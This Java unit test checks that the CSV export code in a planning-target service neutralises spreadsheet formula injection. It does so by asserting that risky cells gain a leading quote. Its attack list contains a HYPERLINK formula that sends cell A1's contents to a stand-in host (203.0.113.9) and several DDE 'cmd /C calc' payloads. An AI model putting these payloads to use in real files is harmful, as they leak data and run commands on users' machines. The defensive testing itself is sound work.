package org.plantrack.targetservice.rest;

import jakarta.ws.rs.core.Response;
import org.junit.jupiter.api.Test;

import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 13, finding 4: every CSV export goes through {@link Csv#response}; its cells are read back as a spreadsheet
 * reads them and none that holds text starts with a character that makes it a formula.
 */
class CsvFormulaSecurityTest {

    private static final List<String> ATTACKS = List.of(
            "=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"点击查看\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "=1,2\n=3");

    @Test
    void exportedCellsThatWouldBeFormulasAreTextWhileNumbersStayNumbers() {
        List<List<Object>> rows = new ArrayList<>();
        for (String attack : ATTACKS) {
            rows.add(List.of(attack, new BigDecimal("-3.5"), "-12", "到2025年，增长-5%以内"));
        }
        Response response = Csv.response("indicators.csv", List.of("metric", "value", "valueAsWritten", "sentence"),
                rows, row -> row, rows.size());
        String body = (String) response.getEntity();
        List<List<String>> cells = CsvCells.parse(body.substring(1)); // after the byte order mark

        assertThat(cells).hasSize(ATTACKS.size() + 1);
        for (int i = 0; i < ATTACKS.size(); i++) {
            List<String> row = cells.get(i + 1);
            assertThat(row.get(0)).as("row %d", i).isEqualTo("'" + ATTACKS.get(i));
            assertThat(row.get(1)).isEqualTo("-3.5");
            assertThat(row.get(2)).isEqualTo("-12");
            assertThat(row.get(3)).isEqualTo("到2025年，增长-5%以内");
        }
    }

    @Test
    void everyCellStartsWithSomethingOtherThanAFormulaTrigger() {
        for (String attack : ATTACKS) {
            String cell = Csv.field(attack);
            String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
            assertThat(unquoted.charAt(0)).as(attack).isEqualTo('\'');
        }
        assertThat(Csv.field("地区生产总值")).isEqualTo("地区生产总值");
        assertThat(Csv.field("")).isEmpty();
    }
}
